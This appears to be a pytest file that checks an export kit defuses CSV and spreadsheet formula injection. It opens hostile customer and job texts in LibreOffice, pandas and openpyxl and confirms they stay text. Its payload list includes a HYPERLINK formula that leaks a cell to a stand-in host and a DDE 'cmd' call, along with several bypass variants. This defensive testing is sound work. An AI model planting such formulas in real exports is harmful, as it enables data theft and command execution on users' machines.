"""The workbook opens in LibreOffice without a question, a repair, an error, a link or a macro; and no text of ours is run, whoever reads it."""

import csv
import datetime as dt
import io
import zipfile
from dataclasses import replace
from decimal import Decimal
from functools import cache
from pathlib import Path
from typing import Any

import export_demo as demo
import export_office as office
import openpyxl
import pandas as pd
import pytest
from long_run import one_in
from xlsxwriter import Workbook

import kit
from kit.export.csv_text import defuse_text, restore_text
from kit.export.handoff import COLUMNS, TEXT_COLUMNS, handoff_bytes
from kit.export.handoff_rows import handoff_rows
from kit.export.import_sheet import HEADS
from kit.export.workbook import workbook_bytes
from kit.issued import issue_estimate, open_issued

# How LibreOffice reads a CSV file that a person opens: comma, quote, UTF-8, from line 1, US English; figures in quotes are figures.
OPTIONS = "44,34,76,1,,1033,false,true"
# OWASP, "CSV Injection" (key owasp-csv-injection): the two cells printed there, one for each first sign listed (= + - @ tab, carriage return, line feed).
PRINTED_CELLS = ('=1+2";=1+2', "=1+2'\" ;,=1+2")
LISTED_SIGNS = ("=1+2", "+1+2", "-1+2", "@SUM(1;2)", "\t=1+2", "\r=1+2", "\n=1+2")
# Ways around it that were reported: blanks before the sign, wide signs, separators and quotes that open a new cell, calls of other programs.
REPORTED = (
    " =1+2",
    "\u00a0=1+2",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1)",
    'x",=1+2,"y',
    "x\r\n=1+2,=1+2",
    "'=1+2",
    "''=1+2",
    '=HYPERLINK("http://example.invalid?leak="&A1,"see here")',
    "=cmd|'/c x'!A0",
    "-25.00",
    "{=1+2}",
)
HOSTILE = (*PRINTED_CELLS, *LISTED_SIGNS, *REPORTED)
IN_BOOKS = one_in(8, HOSTILE)  # each is a workbook of its own; those for the books are tried with all of them in every run
MARKED = (*PRINTED_CELLS, "=1+2", "=SUM(1;2)")  # what LibreOffice runs of a CSV when nothing is done
LONGEST_JOB = 40  # signs of the text that `demo.with_texts` takes for the job number
FIRST_CREDIT = Decimal("25.00")
MACRO = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:ooo="http://openoffice.org/2004/office" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.3"
 office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Code">
<ooo:source-code>Sub Main
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts>
<office:body><office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet>
</office:body></office:document>"""


def hostile_estimate(text: str) -> kit.Estimate:
    """An estimate whose customer, note and job number are such a text."""
    return demo.with_texts(text, text)


@cache
def hostile_book(text: str) -> bytes:
    """The workbook of such an estimate."""
    return workbook_bytes(hostile_estimate(text))


def rows_of(text: str) -> tuple[Any, ...]:
    """Its rows for the books, the first one again as a credit of 25."""
    rows = handoff_rows(hostile_estimate(text))
    return (*rows, replace(rows[0], line_id="credit", sell=-FIRST_CREDIT))


def raw_csv(content: bytes) -> bytes:
    """The same file with every text as it was before it was defused."""
    out = io.StringIO(newline="")
    csv.writer(out).writerows([restore_text(cell) for cell in row] for row in csv.reader(io.StringIO(content.decode(), newline="")))
    return out.getvalue().encode()


def cell_of(row: int, column: str) -> list[str]:
    """The cell of a CSV file as the office names it; row 0 holds the heads."""
    from xlsxwriter.utility import xl_rowcol_to_cell

    return ["", xl_rowcol_to_cell(row, COLUMNS.index(column))]


def cells_of_workbook(content: bytes) -> list[list[str]]:
    """Where customer and note stand on the overview, customer and job in the first of the rows for the books."""
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Overview"]
    facts = {row[0].value: row[1].coordinate for row in sheet.iter_rows() if row[0].value in {"Customer", "Note"}}
    return [*(["Overview", facts[name]] for name in ("Customer", "Note")), *(["Import", cell_of(1, name)[1]] for name in ("customer", "job"))]


def issued_workbook(folder: Path) -> bytes:
    path = issue_estimate(demo.example(demo.FIRST), folder, today=dt.date(2026, 5, 5))
    issued = open_issued(path)
    return workbook_bytes(issued.estimate, issued=issued)


def linked_workbook() -> bytes:
    """One that reads another file and divides by nothing."""
    out = io.BytesIO()
    with Workbook(out) as book:
        sheet = book.add_worksheet("S")
        sheet.write_formula("A1", "='[other.xlsx]S'!A1")
        sheet.write_formula("A2", "=1/0")
    return out.getvalue()


def books(folder: Path, names: set[str]) -> dict[str, bytes]:
    """What must open without a word, of these names; then, as a check of the check, what must not."""
    sound = {name: demo.workbook_of(name) for name in demo.NAMES if name in {*names, demo.FIRST}}
    return sound | {"issued": issued_workbook(folder), "linked": linked_workbook(), "cut off": sound[demo.FIRST][:-400]}


@pytest.fixture(scope="module")
def opened(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """What one run of the office answers about each file that this run of the tests is about."""
    here = [item for item in request.session.items if item.path == request.path and "opened" in item.fixturenames and hasattr(item, "callspec")]
    asked = {(item.originalname, value) for item in here for value in item.callspec.params.values()}
    of_workbook = test_hostile_cells_of_the_workbook_stay_texts_in_libreoffice.__name__
    folder = tmp_path_factory.mktemp("opening")
    requests: dict[str, dict[str, Any]] = {}

    def ask(name: str, file: str, content: bytes, **more: Any) -> None:
        (folder / file).write_bytes(content)
        requests[name] = {"path": str(folder / file), "watch": [], "read": [], "changes": []} | more

    for number, (name, content) in enumerate(books(folder, {value for _, value in asked}).items()):
        ask(name, f"{number}.xlsx", content)
    ask("macro", "macro.fods", MACRO.encode())
    places = cells_of_workbook(hostile_book("plain"))
    for number, text in enumerate(HOSTILE):
        rows = rows_of(text)
        credit = next(place for place, row in enumerate(rows, 1) if row.line_id == "credit")
        read = [cell_of(1, "customer"), cell_of(1, "job"), cell_of(1, "cost"), cell_of(credit, "sell")]
        ask(f"csv {text}", f"rows {number}.csv", handoff_bytes(rows), read=read, options=OPTIONS)
        if (of_workbook, text) in asked:
            ask(f"book {text}", f"book {number}.xlsx", hostile_book(text), read=places)
    for text in MARKED:
        ask(f"raw {text}", f"raw {len(requests)}.csv", raw_csv(handoff_bytes(rows_of(text))), read=[cell_of(1, "customer")], options=OPTIONS)
    return dict(zip(requests, office.recalculate(list(requests.values()), folder), strict=True))


@pytest.mark.parametrize("name", [*one_in(len(demo.VARIANTS), demo.VARIANTS), "issued"])
def test_the_workbook_opens_without_a_word(opened: dict[str, dict[str, Any]], name: str) -> None:
    """Nothing is asked or told, nothing mended; no cell holds an error, no link leads out, no code is inside. Examples: test_libreoffice.py opens them."""
    office.check_sound(opened[name])


def test_what_should_not_open_so_is_noticed(opened: dict[str, dict[str, Any]]) -> None:
    """The test above can fail: a file cut off is asked about and refused, one with code is told of, a link and an error are seen."""
    assert opened["cut off"]["refused"]
    assert opened["cut off"]["asked"]
    assert opened["macro"]["asked"]
    assert opened["macro"]["macros"] == ["Standard/Code"]
    assert opened["linked"]["links"] == ["ExternalDocLinks"]
    assert [entry[5] for entry in opened["linked"]["formulas"]] == [1, 1]


@pytest.mark.parametrize("name", demo.FOR_BOOKS)
def test_the_file_has_no_part_that_leads_out(name: str) -> None:
    """Only sheets, looks, names, texts, pictures and charts are inside, and every relation is to one of them."""
    with zipfile.ZipFile(io.BytesIO(demo.workbook_of(name))) as parts:
        kinds = {Path(part).parts[1] if part.startswith("xl/") else part for part in parts.namelist()}
        relations = [parts.read(part).decode() for part in parts.namelist() if part.endswith(".rels")]
    inside = {"worksheets", "theme", "styles.xml", "workbook.xml", "_rels", "sharedStrings.xml", "media", "drawings", "charts"}
    assert kinds <= inside | {"[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "docProps/core.xml"}
    assert len(relations) > 3
    assert not any("TargetMode" in text for text in relations)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_of_the_csv_stay_texts_in_libreoffice(opened: dict[str, dict[str, Any]], text: str) -> None:
    """No formula in the whole file; customer and job are texts that read back; costs are figures and a credit of -25 is one too."""
    answer = opened[f"csv {text}"]
    assert answer["formulas"] == []
    assert answer["asked"] == answer["links"] == []
    (customer_kind, customer), (job_kind, _), (cost_kind, _), (credit_kind, credit) = answer["read"]
    assert (customer_kind, job_kind) == ("TEXT", "TEXT")
    assert restore_text(customer) == " ".join(text.split())
    assert (cost_kind, credit_kind, float(credit)) == ("VALUE", "VALUE", -25.0)


@pytest.mark.parametrize("text", IN_BOOKS)
def test_hostile_cells_of_the_workbook_stay_texts_in_libreoffice(opened: dict[str, dict[str, Any]], text: str) -> None:
    """Sign for sign on the overview, on one line in the rows for the books; not one formula more than in a workbook without such texts."""
    answer = opened[f"book {text}"]
    assert answer["asked"] == answer["links"] == []
    shown = text.replace("\r\n", "\n").replace("\r", "\n")
    assert answer["read"] == [["TEXT", shown]] * 2 + [["TEXT", " ".join(given.split())] for given in (text, text[:LONGEST_JOB])]
    plain = opened[demo.FIRST]["formulas"]
    assert [entry[:3] for entry in answer["formulas"]] == [entry[:3] for entry in plain]


@pytest.mark.parametrize("text", MARKED)
def test_what_is_not_defused_is_run(opened: dict[str, dict[str, Any]], text: str) -> None:
    """The test above can fail: raw texts become formulas in LibreOffice."""
    assert opened[f"raw {text}"]["formulas"]


@pytest.mark.parametrize("text", IN_BOOKS)
def test_hostile_cells_stay_texts_in_pandas_and_openpyxl(tmp_path: Path, text: str) -> None:
    """Read from the CSV and carried into a workbook as it stands, no cell is a formula; the kit's own workbook keeps the text sign for sign."""
    rows, shown = rows_of(text), " ".join(text.split())
    content = handoff_bytes(rows)
    table = pd.read_csv(io.BytesIO(content), keep_default_na=False, dtype=dict.fromkeys(TEXT_COLUMNS, str))
    assert {restore_text(name) for name in table["customer"]} == {shown}
    assert table["sell"].min() == -float(FIRST_CREDIT)
    assert table["sell"].dtype == table["cost"].dtype == float
    carried = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(content.decode(), newline="")):
        carried.active.append(row)
    assert {cell.data_type for row in carried.active.iter_rows() for cell in row} <= {"s", "n"}  # "n" is an empty cell

    path = tmp_path / "job.xlsx"
    path.write_bytes(hostile_book(text))
    sheet = openpyxl.load_workbook(path)["Import"]
    held = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == shown]
    assert len(held) >= sheet.max_row - 1
    assert {cell.data_type for cell in held} == {"s"}
    assert {cell.quotePrefix for cell in held} == {shown.startswith(("=", "+", "-", "@"))}
    read = pd.read_excel(path, sheet_name="Import", keep_default_na=False, dtype={HEADS[name]: str for name in TEXT_COLUMNS})
    assert set(read["Customer"]) == {shown}


@pytest.mark.parametrize("text", [*PRINTED_CELLS, *LISTED_SIGNS])
def test_each_listed_first_sign_is_defused(text: str) -> None:
    """Whatever the list names as a first sign gets its mark, in any text field by itself."""
    assert defuse_text(text) == f"'{text}"
    assert restore_text(defuse_text(text)) == text
